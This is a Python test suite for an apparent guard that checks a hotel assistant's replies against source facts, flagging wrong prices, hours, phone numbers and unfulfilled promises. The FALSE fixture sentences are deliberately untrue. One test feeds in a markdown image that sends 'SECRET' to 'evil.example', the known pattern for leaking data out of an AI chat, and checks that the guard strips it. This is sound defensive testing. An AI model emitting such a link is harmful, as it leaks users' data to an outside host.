from __future__ import annotations

from itertools import permutations

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from agent.claims import Counters, Guard, Span
from agent.sentences import Sentences, sentences
from tests.agent.claims_house import RATES, complaints, evidence, stands

ROOMS = {
    "garden room": (84, 126),
    "harbour room": (97, 158),
    "attic suite": (143, 215),
}
TRUE = [
    ("The garden room costs 84 € in low season.", "en"),
    ("In high season the harbour room is €158 a night.", "en"),
    ("Das Garden room kostet in der Hochsaison 126 Euro.", "de"),
    ("El Harbour room cuesta 97 euros en temporada baja.", "es"),
    ("The restaurant opens at 6 pm on Saturday and closes at 10:30 pm.", "en"),
    ("Am Samstag ist das Restaurant von 18 bis 22:30 Uhr geöffnet.", "de"),
    ("On Monday the restaurant is closed.", "en"),
    ("The sauna is open every day from 3 pm to 9 pm.", "en"),
    ("Breakfast is included.", "en"),
    ("Le petit-déjeuner est compris.", "fr"),
    ("Parking costs seven euros a day.", "en"),
    ("Hunde sind willkommen und kosten 12 € pro Nacht.", "de"),
    ("No, smoking is not allowed in the rooms.", "en"),
    ("Wi-Fi is free.", "en"),
    ("You can cancel up to fourteen days before arrival.", "en"),
    ("A deposit of 30 percent is required.", "en"),
    ("Please call 01632 960123 or +44 1632 960 123.", "en"),
    ("Write to desk@seaview.example, or see seaview.example/rates.", "en"),
    ("We are at 12 Harbour Street, and Morwenna Tregear manages the house.", "en"),
    ("The house opened in 1987.", "en"),
    ("There is no lift.", "en"),
    ("I don't know whether there is a discount.", "en"),
    ("Would you like me to get someone?", "en"),
    ("Welcome to Seaview!", "en"),
]
FALSE = [
    ("The garden room costs 97 € in low season.", "en"),
    ("In high season the harbour room is €97 a night.", "en"),
    ("In low season the harbour room is €158 a night.", "en"),
    ("In January the harbour room is €158 a night.", "en"),
    ("The garden room costs $84 in low season.", "en"),
    ("The restaurant opens at 6 am on Saturday.", "en"),
    ("On Sunday the restaurant is open from 18:00 to 22:30.", "en"),
    ("The restaurant opens at 3 pm on Saturday.", "en"),
    ("On Saturday the restaurant is closed.", "en"),
    ("On Monday the restaurant is open.", "en"),
    ("Breakfast is not included.", "en"),
    ("Le petit-déjeuner n'est pas compris.", "fr"),
    ("Parking is free.", "en"),
    ("Parken ist kostenlos.", "de"),
    ("Dogs are not allowed.", "en"),
    ("Smoking is allowed in the rooms.", "en"),
    ("We guarantee a sea view.", "en"),
    ("There is a lift.", "en"),
    ("Guests get a discount.", "en"),
    ("You can cancel up to 41 days before arrival.", "en"),
    ("A deposit of 20 % is required.", "en"),
    ("Please call 01632 960 124.", "en"),
    ("Write to desk@seaview.test.", "en"),
    ("We are at 21 Harbour Street.", "en"),
    ("Ask for Morwenna Penrose.", "en"),
    ("Fragen Sie nach Frau Zwick.", "de"),
    ("The house opened in 1978.", "en"),
    ("Two nights come to 2 × 84 € = 186 €.", "en"),
    ("The pool closes at 25:00.", "en"),
]


# As a model talks: several things in a sentence, and more words than the sources have.
TALKED = [
    ("Good morning! How can I help you today?", "en", ""),
    (
        "Our garden room starts at 84 € in low season and goes up to 126 € in July and August.",
        "en",
        "",
    ),
    (
        "For a quieter stay, the Attic suite at €143 a night (low season) may suit you best.",
        "en",
        "",
    ),
    (
        "Yes, of course! Dogs are very welcome here; there is a small fee of 12 € per night.",
        "en",
        "can I bring my dog?",
    ),
    (
        "The restaurant serves from Tuesday to Friday between 12:00 and 14:30, and on Saturday "
        "evening from 18:00 to 22:30.",
        "en",
        "",
    ),
    (
        "I'm afraid the restaurant is closed on Mondays, but the sauna is open from 3 pm to 9 pm.",
        "en",
        "eat on monday?",
    ),
    (
        "Breakfast is already included in your room rate, so there is nothing extra to pay.",
        "en",
        "",
    ),
    ("You'll find us at 12 Harbour Street.", "en", ""),
    ("If you need to cancel, please do so at least 14 days before you arrive.", "en", ""),
    ("We ask for a 30% deposit when you book.", "en", ""),
    ("Children under six stay for free.", "en", "my kids are 4 and 5"),
    ("Parken kostet 7 Euro pro Tag, das WLAN ist kostenlos.", "de", ""),
    ("In der Hochsaison kostet das Garden room 126 € und das Harbour room 158 €.", "de", ""),
    ("Leider gibt es keinen Aufzug.", "de", "Gibt es einen Aufzug?"),
    ("Le stationnement coûte 7 euros par jour.", "fr", ""),
    ("La sauna è aperta tutti i giorni dalle 15 alle 21.", "it", ""),
    (
        "You can reach Morwenna Tregear, our manager, at 01632 960 123 or by e-mail at "
        "desk@seaview.example.",
        "en",
        "",
    ),
    ("Smoking isn't permitted in any of the rooms.", "en", "can I smoke?"),
    ("Thank you for your message, enjoy your stay!", "en", ""),
    ("I'm sorry, I don't have information about a swimming pool.", "en", "pool?"),
    ("De sauna is elke dag open van 15.00 tot 21.00 uur.", "nl", ""),
    ("O pequeno-almoço está incluído.", "pt", ""),
    ("ארוחת הבוקר כלולה במחיר.", "he", ""),
    ("Our house opened its doors in 1987.", "en", ""),
    (
        "Both rooms are available in low season: the garden room at €84 and the harbour room at "
        "€97.",
        "en",
        "",
    ),
    ("That would be €126 per night.", "en", "garden room in august"),
    ("The sauna costs nothing to look at, but please ask the desk about prices.", "en", ""),
    ("Tomorrow is Saturday, so dinner is served from 6 pm.", "en", "dinner tomorrow?"),
]


@pytest.mark.parametrize(("text", "lang", "said"), TALKED, ids=[text[:40] for text, _, _ in TALKED])
def test_what_is_true_may_be_said_as_people_talk(text: str, lang: str, said: str) -> None:
    assert complaints(text, said=said, lang=lang) == []


@pytest.mark.parametrize(("text", "lang"), TRUE, ids=[text[:40] for text, _ in TRUE])
def test_what_the_sources_say_may_be_said(text: str, lang: str) -> None:
    assert complaints(text, lang=lang) == []


@pytest.mark.parametrize(("text", "lang"), FALSE, ids=[text[:40] for text, _ in FALSE])
def test_what_the_sources_do_not_say_is_complained_of(text: str, lang: str) -> None:
    assert complaints(text, lang=lang)


@given(st.sampled_from(sorted(ROOMS)), st.integers(0, 1), st.integers(10, 999))
def test_no_other_price_than_the_rooms_own_is_said_of_it(
    room: str, season: int, price: int
) -> None:
    name = ("low", "high")[season]
    said = f"In {name} season the {room} costs {price} €."

    assert stands(said) == (price == ROOMS[room][season])


@given(st.sampled_from(sorted(permutations(ROOMS, 2))), st.integers(0, 1))
def test_swapped_rows_are_caught(pair: tuple[str, str], season: int) -> None:
    name = ("low", "high")[season]
    one, other = pair

    assert not stands(f"The {one} is {ROOMS[other][season]} € in {name} season.")


@given(st.sampled_from(sorted(ROOMS)), st.integers(0, 1))
def test_the_price_of_the_other_season_is_caught(room: str, season: int) -> None:
    other = ("high", "low")[season]

    assert not stands(f"The {room} is {ROOMS[room][season]} € in {other} season.")


@given(st.integers(0, 23), st.integers(0, 59))
def test_no_other_hour_than_the_kitchens_own_is_said(hour: int, minute: int) -> None:
    said = f"On Saturday the restaurant closes at {hour:02d}:{minute:02d}."

    assert stands(said) == ((hour, minute) == (22, 30))


DAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"]


@given(st.sampled_from(DAYS))
def test_hours_hold_on_their_own_days_alone(day: str) -> None:
    said = f"On {day} the restaurant is open from 12:00 to 14:30."

    assert stands(said) == (day in DAYS[1:5])


@given(st.integers(0, 10), st.sampled_from("0123456789"))
def test_one_other_digit_makes_another_telephone_number(place: int, digit: str) -> None:
    number = "01632960123"
    other = number[:place] + digit + number[place + 1 :]

    assert stands(f"Our number is {other}.") == (other == number)


@given(st.sampled_from(["€", "$", "£", "CHF "]))
def test_a_price_in_another_currency_is_another_price(sign: str) -> None:
    assert stands(f"Parking is {sign}7 a day.") == (sign == "€")


FREE = {
    "en": ("Wi-Fi is free of charge.", "Parking is free of charge."),
    "es": ("El wifi es gratis.", "El parking es gratis."),
    "fr": ("Le wifi est gratuit.", "Le parking est gratuit."),
    "de": ("WLAN und Wi-Fi sind kostenlos.", "Das Parken ist kostenlos."),
    "it": ("Il wi-fi è gratuito.", "Il parcheggio è gratuito."),
    "pt": ("O wi-fi é gratuito.", "O estacionamento é gratuito."),
    "nl": ("De wi-fi is gratis.", "Parkeren is gratis."),
    "he": ("ה-Wi-Fi חינם.", "חניה חינם."),
}


@pytest.mark.parametrize("lang", sorted(FREE))
def test_what_is_free_is_known_in_every_language(lang: str) -> None:
    true, false = FREE[lang]

    assert complaints(true, lang=lang) == []
    assert complaints(false, lang=lang)


PROMISES = {
    "en": "I'll call you tomorrow.",
    "es": "Le llamaremos mañana.",
    "fr": "Nous vous rappellerons demain.",
    "de": "Wir rufen Sie morgen zurück.",
    "it": "La richiameremo domani.",
    "pt": "Vou telefonar amanhã.",
    "nl": "Ik bel u morgen terug.",
    "he": "אתקשר אליך מחר.",
}


@pytest.mark.parametrize("lang", sorted(PROMISES))
def test_a_promise_needs_a_tool_that_kept_it(lang: str) -> None:
    text = PROMISES[lang]

    assert [one.kind for one in complaints(text, lang=lang)] == ["promise"]
    assert stands(text, lang=lang, done=["call"])


def test_a_person_who_was_fetched_may_be_announced() -> None:
    text = "I'll get someone from the team."

    assert not stands(text)
    assert stands(text, done=["fetch"])


@pytest.mark.parametrize(
    "text",
    ["Your table is booked.", "We have refunded you.", "I've sent the details.", "You're all set."],
)
def test_nothing_is_said_to_be_done_that_was_not(text: str) -> None:
    assert not stands(text)


def test_a_total_shows_what_it_was_computed_from() -> None:
    said = "Two nights in the garden room in low season?"

    assert stands("2 × 84 € = 168 €", said=said)
    assert not stands("2 × 84 € = 186 €", said=said)
    assert not stands("Two nights are 168 €.", said=said)


def test_what_the_guest_said_may_be_said_back_but_no_price() -> None:
    assert stands("For 9 people on Sunday I can only ask.", said="A table for 9 on Sunday?")
    assert not stands("Yes, it is 50 €.", said="Is it 50 €?")


def test_a_short_answer_is_about_what_was_asked() -> None:
    said = "What is the harbour room in high season?"

    assert stands("It is 158 €.", said=said)
    assert not stands("It is 126 €.", said=said)
    assert not stands("Yes, it is free.", said="Is the parking free?")


def test_a_line_that_ends_in_a_colon_says_what_the_next_ones_are_about() -> None:
    assert stands("In high season:\n- Garden room: 126 €\n- Harbour room: 158 €")
    assert not stands("In low season:\n- Garden room: 126 €\n- Harbour room: 97 €")


def test_links_to_other_places_are_taken_out_and_our_own_stay() -> None:
    guard = Guard(evidence())

    away = guard.check("See [our rates](https://evil.example/x) or https://evil.example/y.")
    image = guard.check("![](https://evil.example/?d=SECRET) Wi-Fi is free.")
    own = guard.check("See https://seaview.example/rates.")

    assert "evil" not in away.text + image.text
    assert len(away.removed) == 2
    assert (own.text, own.ok, own.removed) == ("See https://seaview.example/rates.", True, ())


def test_an_address_of_our_own_that_no_page_has_is_not_made_up() -> None:
    assert not stands("Pay at https://seaview.example/pay.")


def test_a_verdict_names_the_spans_its_claims_stand_on() -> None:
    guard = Guard(evidence())

    assert guard.check("Parking costs 7 € a day.").spans == ("p3",)
    assert guard.check("The sauna closes at 21:00.").spans == ("p2",)


def test_a_complaint_says_what_the_source_says() -> None:
    (found,) = complaints("The garden room is 97 € in low season.")

    assert (found.kind, found.claim) == ("money", "97")
    assert "Garden room | 84 €" in found.why


def test_a_house_answer_and_a_result_of_a_tool_are_grounds_too() -> None:
    known = evidence()
    tool = Span("t1", "Free at 20:15 for 4 people", kind="tool")
    guard = Guard(type(known)([tool], said="a table for four", lang="en"))

    assert guard.check("A table for four is free at 8:15 pm.").ok


def test_sentences_are_judged_as_they_come() -> None:
    guard, splitter = Guard(evidence()), Sentences()
    passed = []
    for piece in ("Parking is 7 € a", " day. Dogs are", " 99 € a night. Bye."):
        passed += [guard.check(one).ok for one in splitter.feed(piece)]

    assert passed == [True, False]
    assert guard.counters == Counters(checked=2)


@given(st.text(max_size=160), st.sampled_from(["en", "de", "he", ""]))
def test_no_text_breaks_the_guard(text: str, lang: str) -> None:
    guard = Guard(evidence(said=text, lang=lang or "en"))

    for one in sentences(text):
        assert guard.check(one) is not None


@given(st.text(alphabet="0123456789:.,-/€$% apmUhrbis|\n", max_size=60))
def test_no_heap_of_figures_breaks_the_guard(text: str) -> None:
    known = evidence()
    own = Guard(type(known)([Span("x", text), RATES], said=text, lang="en"))

    for one in sentences(text):
        assert own.check(one) is not None


@pytest.mark.parametrize("piece", ["1.2.3.4.", "no not free ", "10:00-12:00, ", "(12)-/", "a@"])
def test_a_page_of_nonsense_is_taken_apart_in_pieces(piece: str) -> None:
    known = Span("x", piece * 2_000)
    parts = type(evidence())([known], lang="en")

    assert max(len(line.text) for line in parts.lines) <= 1_000
    assert Guard(parts).check("Parking is free.").complaints


@given(st.sampled_from(RATES.text.split("\n")))
def test_a_line_of_a_source_may_be_said_word_for_word(line: str) -> None:
    assume(line)

    assert stands(line)
